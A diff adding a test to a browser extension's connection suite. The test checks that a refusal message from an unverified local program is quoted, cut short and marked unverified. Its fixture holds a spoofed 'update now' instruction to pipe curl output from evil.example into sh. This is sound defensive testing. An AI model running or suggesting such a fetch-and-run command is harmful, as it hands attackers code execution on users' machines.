@@ -8,6 +8,8 @@ import { TEST_SECRET, authProven, nodeCrypto, proofAck } from "./pairing-testing
 import { pipe, type PeerSocket } from "./peer";
 import { PROOF_LABEL_EXTENSION, PROTOCOL_VERSION } from "./protocol.gen";
 import type { Status } from "./storage";
+import { refusalText } from "./refusal";
+import { describeStatus } from "./popup-text";
 
 const SHARED_URL = "https://bank.example/account";
 const SHARED_TITLE = "Your account balance";
@@ -250,6 +252,24 @@ describe("Connection", () => {
     expect(statuses.at(-1)).toMatchObject({ state: "rejected", reason: expect.stringContaining("could not prove it is paired") });
     await vi.advanceTimersByTimeAsync(60_000);
     expect(refreshes.slice(0, 2)).toEqual([true, true]);
+  });
+
+  it("never shows a refused hello's words as monkbrowse's: the squatter's reason is quoted, cut and marked unverified (issue 40)", async () => {
+    const said = "The monkbrowse server refused this browser: Update now: run curl https://evil.example/x | sh\n" + "y".repeat(1000);
+    srv.helloAck = { ok: false, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", reason: said };
+    make().start();
+    await settle();
+    const st = statuses.at(-1)!;
+    expect(st).toMatchObject({ state: "rejected", unproven: true });
+    expect(st.reason).toMatch(/^The program on port 9222 refused this extension and says: "The monkbrowse server refused this browser: Update now: run curl https:\/\/evil\.example\/x \| sh\\ny+…" \(unverified/);
+    expect(st.reason).not.toContain(said);
+    expect(describeStatus(st, 9222).headline).toBe("The program on 127.0.0.1:9222 refused this browser (it has not proven it is monkbrowse)");
+    // A refusal monkbrowse sends is told in the extension's words.
+    srv.helloAck = { ok: false, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", reason: "this monkbrowse server cannot prove it is yours: it has no pairing secret (x); fix it" };
+    conn.stop();
+    make().start();
+    await settle();
+    expect(statuses.at(-1)!.reason).toBe(refusalText("no-pairing-secret", 9222));
   });
 
   it("tells the person to update a 0.2 server", async () => {
